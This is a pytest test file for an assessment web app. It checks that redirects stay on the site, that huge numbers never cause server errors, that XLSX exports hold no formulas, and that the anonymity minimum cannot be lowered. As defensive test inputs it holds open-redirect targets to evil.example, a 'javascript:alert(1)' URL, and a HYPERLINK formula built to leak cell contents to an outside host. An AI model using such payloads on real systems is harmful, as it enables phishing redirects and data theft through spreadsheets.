"""Odd and hostile input: redirects stay on the site, numbers never overflow, formulas never run."""

import io
from datetime import date

import openpyxl
import pytest
import sqlalchemy as sa

from assessment.extensions import db
from assessment.models import CheckPoint, CheckPointStatus, Period, PeriodState, Scheme, Unit, UnitKind


@pytest.fixture
def signed_in(client, auth, make_user):
    make_user("office", role="operator")
    auth.login()
    return client


@pytest.mark.parametrize(
    "target", ["/%09/evil.example", "//evil.example", "/\\evil.example", "https://evil.example/", "javascript:alert(1)"]
)
def test_login_never_redirects_off_site(client, make_user, target):
    """Does sign-in refuse to redirect to another site through `next`?"""
    make_user("office")
    response = client.post(f"/office/login?next={target}", data={"username": "office", "password": "correct-horse-1"})
    assert response.status_code == 302
    assert response.headers["Location"] == "/office/home"


def test_huge_or_odd_numbers_are_not_server_errors(app, signed_in):
    """Do ids and page numbers beyond 32 bits, or nonsense years, give 404 or the default page, never 500?"""
    with app.app_context():
        db.session.add(
            Period(
                name="2026",
                starts_on=date(2026, 1, 1),
                ends_on=date(2026, 12, 31),
                as_of=date(2026, 12, 31),
                state=PeriodState.OPEN,
            )
        )
        db.session.commit()
    big = "99999999999999999999"
    assert signed_in.get(f"/office/cases/{big}").status_code == 404
    assert signed_in.get("/office/cases/2147483648").status_code == 404
    assert signed_in.get(f"/office/periods/2026/results/{big}/units/U1").status_code == 404
    # Out-of-range query numbers fall back to the default: the latest result, page 1, this year's calendar.
    page = signed_in.get(f"/office/periods/2026/results?version={big}")
    assert page.status_code == 200 and "尚未计算评价结果" in page.get_data(as_text=True)
    page = signed_in.get(f"/office/raters?page={big}")
    assert page.status_code == 200 and "<h1>评价人</h1>" in page.get_data(as_text=True)
    from assessment.services.workdays import china_today

    this_year = f"工作日历 · {china_today().year}年"
    for year in ("0", "-5", "10000", "abc"):
        page = signed_in.get(f"/office/calendar?year={year}")
        assert page.status_code == 200 and this_year in page.get_data(as_text=True)


def test_xlsx_never_holds_a_formula(app, runner, tmp_path):
    """Is a unit named like a formula written as text in every sheet of the workbook?"""
    with app.app_context():
        period = Period(
            name="2026",
            starts_on=date(2026, 1, 1),
            ends_on=date(2026, 12, 31),
            as_of=date(2026, 12, 31),
            state=PeriodState.OPEN,
        )
        unit = Unit(code="U1", name='=HYPERLINK("http://e/"&A1,"x")', kind=UnitKind.GOVERNMENT, category="=1+1")
        db.session.add_all([period, unit])
        db.session.flush()
        db.session.add(
            CheckPoint(
                period_id=period.id, unit_id=unit.id, item="+cmd", due=date(2026, 6, 1), status=CheckPointStatus.ON_TIME
            )
        )
        db.session.commit()
    assert runner.invoke(args=["score", "--period", "2026"]).exit_code == 0
    out = tmp_path / "r.xlsx"
    assert runner.invoke(args=["export", "--period", "2026", "--format", "xlsx", "--out", str(out)]).exit_code == 0
    book = openpyxl.load_workbook(io.BytesIO(out.read_bytes()))
    formulas = [(ws.title, c.coordinate) for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_scheme_cannot_lower_the_anonymity_floor(app, signed_in):
    """Is a scheme that lowers a group's minimum sample below scoring.md refused?"""
    with app.app_context():
        db.session.add(
            Period(
                name="2026",
                starts_on=date(2026, 1, 1),
                ends_on=date(2026, 12, 31),
                as_of=date(2026, 12, 31),
                state=PeriodState.OPEN,
            )
        )
        db.session.commit()
    page = signed_in.get("/office/periods/2026/scheme").get_data(as_text=True)
    assert "默认方案（尚未保存）" in page
    with app.app_context():  # looking at the scheme writes nothing
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Scheme)) == 0
        import scoring

        text = scoring.default_scheme_text()
    lowered = text.replace("min_n: {grassroots: 5,", "min_n: {grassroots: 2,")
    assert lowered != text
    page = signed_in.post("/office/periods/2026/scheme", data={"text": lowered, "note": ""}).get_data(as_text=True)
    assert "min_n.grassroots: must be at least 5" in page
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Scheme)) == 0
